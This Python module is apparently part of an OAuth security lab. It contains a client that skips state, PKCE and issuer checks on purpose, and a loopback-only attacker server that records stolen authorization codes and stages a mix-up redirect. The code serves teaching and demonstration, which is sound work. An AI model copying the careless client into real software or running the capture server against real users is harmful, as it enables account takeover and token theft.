"""A careless OAuth client and an attacker's server, for the attack lab only (notebook 07).

:class:`CarelessClient` does the authorization code grant the way too many clients do: without
``state`` (RFC 6749 §10.12), without PKCE (RFC 7636), without the ``iss`` check (RFC 9207),
each switchable so one attack at a time can be shown. :class:`AttackerServer` is the other
side: a page on 127.0.0.1 that writes down what reaches it, and, for the mix-up attack, an
"authorization server" that forwards the browser to the honest one and keeps what the client
then sends to its token endpoint.

Never use either for anything but watching an attack work. The toolkit's flows never import
this module (a test checks it).
"""

from __future__ import annotations

import json
import secrets
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlencode, urlsplit

import requests

from ..core.claims import decode_unverified
from ..core.redact import mask, remember

__all__ = ["CarelessClient", "CarelessProvider", "SignedIn", "AttackerServer"]


@dataclass(frozen=True)
class CarelessProvider:
    """Where the careless client signs in: one authorization server and its registration."""

    auth_url: str
    token_url: str
    client_id: str
    client_secret: str = field(repr=False)
    issuer: str = ""


@dataclass(frozen=True)
class SignedIn:
    """Whose account a session of the careless client ended up holding."""

    account: str | None
    provider: str
    token_endpoint: str
    status: int
    access_token: str | None = field(default=None, repr=False)

    def __repr__(self) -> str:
        return (f"SignedIn(account={self.account!r}, provider={self.provider!r}, status={self.status}, "
                f"access_token={mask(self.access_token)!r})")


@dataclass
class _Session:
    provider: str
    state: str | None
    verifier: str | None


class CarelessClient:
    """An authorization code client that skips checks on purpose.

    ``providers`` maps a name to a :class:`CarelessProvider`; ``redirect_uri`` is the client's
    registered callback. ``use_state``, ``use_pkce`` and ``check_iss`` switch on the checks it
    normally skips. :meth:`login_link` starts a sign-in (one per browser session);
    :meth:`callback` is what runs when a browser arrives at the redirect URI: it takes the
    code, and exchanges it at the token endpoint of the provider it *thinks* it is talking to.
    """

    def __init__(self, providers: dict[str, CarelessProvider], redirect_uri: str, *, use_state: bool = False,
                 use_pkce: bool = False, check_iss: bool = False):
        self.providers = dict(providers)
        self.redirect_uri = redirect_uri
        self.use_state, self.use_pkce, self.check_iss = use_state, use_pkce, check_iss
        self._sessions: dict[str, _Session] = {}
        self._last: _Session | None = None

    def login_link(self, provider: str | None = None) -> str:
        """The authorize link of a new sign-in at ``provider`` (default: the first one)."""
        name = provider or next(iter(self.providers))
        settings = self.providers[name]
        state = secrets.token_urlsafe(16) if self.use_state else None
        verifier = secrets.token_urlsafe(48) if self.use_pkce else None
        params = {"response_type": "code", "client_id": settings.client_id, "redirect_uri": self.redirect_uri,
                  "scope": "alerts:write"}
        if state:
            params["state"] = state
        if verifier:
            from ..core.pkce import challenge_for

            remember(verifier)
            params.update(code_challenge=challenge_for(verifier), code_challenge_method="S256")
        session = _Session(name, state, verifier)
        self._sessions[state or f"session-{len(self._sessions)}"] = session
        self._last = session
        return f"{settings.auth_url}?{urlencode(params)}"

    def callback(self, landed: str) -> SignedIn:
        """A browser arrived at the redirect URI with ``landed``: sign this session in.

        Raises ``PermissionError`` when one of the checks that are switched on fails, and
        ``LookupError`` when the address carries no code.
        """
        params = {k: v[0] for k, v in parse_qs(urlsplit(landed).query).items()}
        code = params.get("code")
        if not code:
            raise LookupError("no code in the address")
        remember(code)
        if self.use_state:
            session = self._sessions.get(params.get("state") or "")
            if session is None:
                raise PermissionError("state does not match a sign-in of this client")
        else:
            # Careless: whatever arrives belongs to the sign-in in progress.
            session = self._last or _Session(next(iter(self.providers)), None, None)
        settings = self.providers[session.provider]
        if self.check_iss and params.get("iss") != settings.issuer:
            raise PermissionError("iss names another authorization server")
        data = {"grant_type": "authorization_code", "code": code, "redirect_uri": self.redirect_uri}
        if session.verifier:
            data["code_verifier"] = session.verifier
        with requests.Session() as http:
            http.trust_env = False  # loopback only, never through a proxy
            answer = http.post(settings.token_url, data=data, auth=(settings.client_id, settings.client_secret),
                               timeout=10)
        token = None
        try:
            token = answer.json().get("access_token") if answer.ok else None
        except ValueError:
            pass
        remember(token)
        decoded = decode_unverified(token) if token else None
        account = decoded[1].get("sub") if decoded else None
        return SignedIn(account=account if isinstance(account, str) else None, provider=session.provider,
                        token_endpoint=settings.token_url, status=answer.status_code, access_token=token)


# --- the attacker's side ---------------------------------------------------------------------


class _AttackerHandler(BaseHTTPRequestHandler):
    server: "_AttackerHTTPServer"
    server_version = "attacker"
    sys_version = ""

    def log_message(self, format: str, *args) -> None:  # noqa: A002 - the base class's name
        pass  # request lines carry codes

    def _answer(self, status: int, body: bytes, content_type: str = "text/plain", location: str | None = None):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        if location:
            self.send_header("Location", location)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        owner = self.server.owner
        path, _, query = self.path.partition("?")
        params = {k: v[0] for k, v in parse_qs(query).items()}
        if path == "/authorize" and owner.forward_to is not None:
            # Mix-up: send the browser on to the honest server, as if it were this one's login.
            forwarded = {**params, "client_id": owner.forward_client_id or params.get("client_id", "")}
            owner._note("authorize", params)
            self._answer(302, b"", location=f"{owner.forward_to}?{urlencode(forwarded)}")
            return
        owner._note(path, params)
        self._answer(200, b"Thanks! (This page belongs to the attacker.)\n")

    def do_POST(self) -> None:  # noqa: N802
        owner = self.server.owner
        length = min(int(self.headers.get("Content-Length") or 0), 65536)
        form = {k: v[0] for k, v in parse_qs(self.rfile.read(length).decode("utf-8", "replace")).items()}
        owner._note(self.path.partition("?")[0], form)
        body = json.dumps({"error": "invalid_grant", "error_description": "nothing to see here"}).encode()
        self._answer(400, body, "application/json")


class _AttackerHTTPServer(ThreadingHTTPServer):
    daemon_threads = True
    owner: "AttackerServer"


class AttackerServer:
    """The attacker's web server on 127.0.0.1: every request's parameters are written down.

    ``forward_to`` (an honest authorize URL) makes ``/authorize`` a mix-up: the browser is
    sent on there with ``forward_client_id``. ``received`` lists ``(path, params)``; its
    values hold real codes, so show :meth:`codes` masked.
    """

    def __init__(self, *, host: str = "127.0.0.1", forward_to: str | None = None,
                 forward_client_id: str | None = None):
        if host not in ("127.0.0.1", "localhost"):
            raise ValueError("the lab's attacker stays on loopback")
        self.host, self.forward_to, self.forward_client_id = host, forward_to, forward_client_id
        self.received: list[tuple[str, dict[str, str]]] = []
        self._lock = threading.Lock()
        self._server: _AttackerHTTPServer | None = None

    def start(self) -> "AttackerServer":
        if self._server is None:
            server = _AttackerHTTPServer(("127.0.0.1", 0), _AttackerHandler)
            server.owner = self
            threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True,
                             name=f"AttackerServer:{server.server_address[1]}").start()
            self._server = server
        return self

    def stop(self) -> None:
        server, self._server = self._server, None
        if server is not None:
            server.shutdown()
            server.server_close()

    def __enter__(self) -> "AttackerServer":
        return self.start()

    def __exit__(self, *exc_info) -> None:
        self.stop()

    @property
    def url(self) -> str:
        if self._server is None:
            raise RuntimeError("AttackerServer is not started")
        return f"http://{self.host}:{self._server.server_address[1]}"

    def _note(self, path: str, params: dict[str, str]) -> None:
        remember(params.get("code"))
        with self._lock:
            self.received.append((path, params))

    def codes(self) -> list[str]:
        """Every authorization code that reached this server (raw: show them masked)."""
        with self._lock:
            return [p["code"] for _, p in self.received if p.get("code")]

    def __repr__(self) -> str:
        where = self.url if self._server is not None else "not started"
        return f"AttackerServer({where}, codes received={len(self.codes())})"
